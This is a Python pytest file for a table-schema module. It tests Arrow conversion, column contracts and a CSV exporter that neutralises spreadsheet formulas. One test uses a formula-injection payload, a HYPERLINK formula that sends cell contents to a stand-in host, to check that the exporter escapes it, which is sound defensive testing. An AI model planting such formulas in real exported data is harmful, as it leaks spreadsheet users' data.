"""Tables: exactly the declared columns, in their order and of their types; CSV that no spreadsheet executes."""

from io import BytesIO

import numpy as np
import pandas as pd
import pyarrow as pa
import pytest

from schemas.tables import catalog, iterations, manifest, scores
from schemas.tables.columns import Column, arrow_schema, csv_for_people, reference, to_arrow

COLUMNS = (
    Column("name", pa.string(), "what it is called"),
    Column("row", pa.int64(), "where it is"),
    Column("index", pa.int8(), "small"),
    Column("score", pa.float64(), "how it did"),
    Column("flag", pa.bool_(), "whether"),
)
FRAME = pd.DataFrame(
    {
        "extra": [1, 2],
        "flag": [True, None],
        "score": [1.5, np.inf],
        "index": [1, None],
        "row": pd.array([7, None], dtype="Int64"),
        "name": ["a b", None],
    },
    index=[10, 20],
)


def test_to_arrow_gives_the_declared_columns_in_their_order() -> None:
    assert to_arrow(FRAME, COLUMNS).column_names == ["name", "row", "index", "score", "flag"]


def test_to_arrow_gives_the_declared_types() -> None:
    assert to_arrow(FRAME, COLUMNS).schema.types == [pa.string(), pa.int64(), pa.int8(), pa.float64(), pa.bool_()]


def test_to_arrow_keeps_values_and_nulls() -> None:
    assert to_arrow(FRAME, COLUMNS).to_pydict() == {
        "name": ["a b", None],
        "row": [7, None],
        "index": [1, None],
        "score": [1.5, np.inf],
        "flag": [True, None],
    }


def test_to_arrow_carries_each_columns_meaning_and_nothing_of_pandas() -> None:
    schema = to_arrow(FRAME, COLUMNS).schema
    assert schema.field("score").metadata == {b"description": b"how it did"}
    assert schema.metadata is None
    assert schema.equals(arrow_schema(COLUMNS), check_metadata=True)


def test_to_arrow_of_no_rows_has_the_types() -> None:
    assert to_arrow(FRAME.iloc[:0].astype(object), COLUMNS).schema.types == arrow_schema(COLUMNS).types


def test_to_arrow_leaves_its_frame_alone() -> None:
    before = FRAME.copy(deep=True)
    to_arrow(FRAME, COLUMNS)
    pd.testing.assert_frame_equal(FRAME, before)


def test_a_missing_column_is_a_key_error() -> None:
    with pytest.raises(KeyError, match="score"):
        to_arrow(FRAME.drop(columns="score"), COLUMNS)


@pytest.mark.parametrize(("column", "values"), [("index", [1, 300]), ("row", [1.5, 2.5]), ("score", ["a", "b"])])
def test_values_that_do_not_fit_their_type_are_an_arrow_error(column: str, values: list[object]) -> None:
    frame = FRAME.assign(**{column: pd.Series(values, index=FRAME.index)})
    with pytest.raises(pa.ArrowInvalid):
        to_arrow(frame, COLUMNS)


def test_reference_is_a_markdown_table() -> None:
    assert reference(COLUMNS[:2]) == (
        "| column | type | meaning |\n|---|---|---|\n"
        "| `name` | string | what it is called |\n| `row` | int64 | where it is |\n"
    )


@pytest.mark.parametrize("columns", [catalog.COLUMNS, manifest.COLUMNS, iterations.COLUMNS, scores.COLUMNS])
def test_every_published_table_names_each_column_once_and_says_what_it_means(columns: tuple[Column, ...]) -> None:
    assert len({column.name for column in columns}) == len(columns)
    assert all(column.meaning for column in columns)


# The contract that consumers script against: a column may be added, never renamed, moved or dropped by accident.
CONTRACT = {
    "manifest": (
        "sample_id image_path file_name group content_sha256 bytes width height decision reason anomaly_score margin "
        "worst_row worst_col distance threshold bbox_x bbox_y bbox_width bbox_height iteration duplicate_of label "
        "label_index split outlier_score is_outlier_issue run_id config_digest weights_digest"
    ),
    "scores": "image_path group anomaly_score worst_row worst_col is_anomalous margin",
    "iterations": "group iteration n_clean n_added n_removed n_positions_trimmed floor_applied seconds",
}


@pytest.mark.parametrize(
    ("table", "columns"),
    [("manifest", manifest.COLUMNS), ("scores", scores.COLUMNS), ("iterations", iterations.COLUMNS)],
)
def test_published_tables_have_the_columns_of_the_contract_in_order(table: str, columns: tuple[Column, ...]) -> None:
    promised = CONTRACT[table].split()
    assert [column.name for column in columns if column.name in promised] == promised


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
def test_a_text_that_a_spreadsheet_would_run_gets_an_apostrophe(start: str) -> None:
    text = f'{start}HYPERLINK("http://host/?"&A1,"x")'
    for dtype in ("object", "category", "string"):
        written = csv_for_people(pd.DataFrame({"group": pd.Series([text, "line -1 = 2"], dtype=dtype)}))
        assert pd.read_csv(BytesIO(written), lineterminator="\n")["group"].tolist() == [f"'{text}", "line -1 = 2"]


def test_all_else_is_written_as_it_is() -> None:
    frame = pd.DataFrame(
        {
            "image_path": ["/archive/=a.png", "s3://bucket/-b.png", None],
            "name": ["a=b", "'quoted'", ""],
            "loss": [-1.5, np.nan, -np.inf],
            "count": pd.array([-1, None, 2], dtype="Int64"),
            "flag": [True, False, True],
        }
    )
    before = frame.copy(deep=True)
    assert csv_for_people(frame) == frame.to_csv(index=False).encode()
    pd.testing.assert_frame_equal(frame, before)
    assert csv_for_people(frame.iloc[:0]) == b"image_path,name,loss,count,flag\n"
